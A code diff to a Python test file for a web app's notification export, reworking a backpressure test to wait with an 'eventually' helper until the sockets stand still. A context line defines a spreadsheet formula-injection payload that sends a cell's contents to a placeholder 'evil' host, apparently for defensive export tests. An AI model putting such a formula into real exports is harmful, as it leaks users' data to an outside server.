@@ -17,7 +17,7 @@ from srhooks.web.pages import export as export_page
 from srhooks.web.pages.export import _all, _chosen
 from srhooks.web.state.app_keys import STORE
 
-from tests.support.harness import Browser, World
+from tests.support.harness import Browser, World, eventually
 
 HOSTILE = '=HYPERLINK("http://evil/?"&A1,"click")'
 
@@ -147,21 +147,32 @@ async def test_a_slow_reader_slows_the_reading(
     async with world.logged_in() as ada:
         await store_some(world, ada, 60, json.dumps("x" * 900_000).encode())
         written = 0
+        writers: list[web.StreamResponse] = []
         write = web.StreamResponse.write
 
         async def counted(self: web.StreamResponse, data: Any) -> None:
             nonlocal written
+            writers[:] = [self]
             await write(self, data)
             written += len(data)
 
         monkeypatch.setattr(web.StreamResponse, "write", counted)  # to look, not to change
         async with ada.session.get(f"{world.base}/notifications/export?format=ndjson") as answer:
             await answer.content.readany()
-            # It stops writing once the sockets between us are full: look until it stands still.
             seen = -1
-            while seen != written:
-                seen = written
-                await asyncio.sleep(0.3)
+
+            async def stands_still() -> bool:
+                """Neither end takes more: we do not read, and the sockets between us are full."""
+                nonlocal seen
+                before, seen = seen, written
+                ours, theirs = answer.connection, writers[0]._req
+                assert ours is not None
+                assert ours.transport is not None
+                assert theirs is not None
+                is_full = theirs.protocol.writing_paused and not ours.transport.is_reading()
+                return bool(is_full and before == written)
+
+            await eventually(stands_still)
             assert written < 30_000_000
             rest = await answer.content.read()
             assert rest.count(b"\n") > 30
